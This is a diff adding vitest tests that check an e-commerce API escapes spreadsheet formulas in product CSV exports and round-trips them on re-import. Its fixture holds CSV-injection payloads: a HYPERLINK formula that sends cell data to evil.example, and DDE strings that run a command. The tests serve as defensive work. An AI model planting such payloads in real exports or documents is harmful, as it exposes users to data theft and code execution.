@@ -1,5 +1,6 @@
+import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { createProduct } from '../../src/modules/catalog/test-support.ts';
+import { createProduct, multipartFile } from '../../src/modules/catalog/test-support.ts';
 import { createTestApp, type TestApp } from '../helpers/app.ts';
 import { createUser, type TestUser } from '../helpers/factories.ts';
 import { approveInDb, createShop } from '../helpers/shops.ts';
@@ -148,5 +149,60 @@ describe('injection and oversized input', () => {
     expect(await count('users')).toBeGreaterThan(0);
     const search = await get('/api/v1/search?q=rice');
     expect(search.statusCode).toBe(200);
+  });
+});
+
+describe('CSV injection (formulas in spreadsheet exports)', () => {
+  const formulas = {
+    nameEn: '=HYPERLINK("http://evil.example/?d="&A1,"Click for discount")',
+    nameBn: "+cmd|' /C calc'!A0",
+    descriptionEn: "@SUM(1+1)*cmd|' /C calc'!A0",
+    descriptionBn: "'=already quoted by the seller",
+  };
+
+  async function exportOf(seller: TestUser, shop: string) {
+    const res = await t.app.inject({
+      url: `/api/v1/shops/${shop}/products/export.csv`,
+      headers: seller.auth,
+    });
+    expect(res.statusCode).toBe(200);
+    return res;
+  }
+
+  it('CSV injection: an exported product name starting with = is escaped', async () => {
+    const seller = await createUser(t.ctx, { role: 'seller' });
+    const shop = (await createShop(t, seller)).id;
+    await createProduct(t.app, seller.auth, shop, { ...formulas, sku: 'FORMULA-1' });
+    const exported = await exportOf(seller, shop);
+    const [record] = parse(exported.body, { bom: true, columns: true }) as Record<string, string>[];
+    // A spreadsheet shows these as text: every cell that would start a formula begins with '.
+    expect(record!.name_en).toBe(`'${formulas.nameEn}`);
+    expect(record!.name_bn).toBe(`'${formulas.nameBn}`);
+    expect(record!.description_en).toBe(`'${formulas.descriptionEn}`);
+    expect(record!.description_bn).toBe(`'${formulas.descriptionBn}`);
+    for (const cell of Object.values(record!)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+  });
+
+  it('CSV injection: re-importing the escaped export gives back the exact names', async () => {
+    const seller = await createUser(t.ctx, { role: 'seller' });
+    const shop = (await createShop(t, seller)).id;
+    const product = await createProduct(t.app, seller.auth, shop, {
+      ...formulas,
+      sku: 'FORMULA-2',
+    });
+    const exported = await exportOf(seller, shop);
+    const body = multipartFile(exported.rawPayload, 'products.csv', 'text/csv');
+    const reimport = await t.app.inject({
+      method: 'POST',
+      url: `/api/v1/shops/${shop}/products/import`,
+      headers: { ...seller.auth, ...body.headers },
+      payload: body.payload,
+    });
+    expect(reimport.json().summary).toEqual({ created: 0, updated: 0, unchanged: 1, rejected: 0 });
+    const after = await t.app.inject({
+      url: `/api/v1/products/${product.id}`,
+      headers: seller.auth,
+    });
+    expect(after.json()).toMatchObject(formulas);
   });
 });
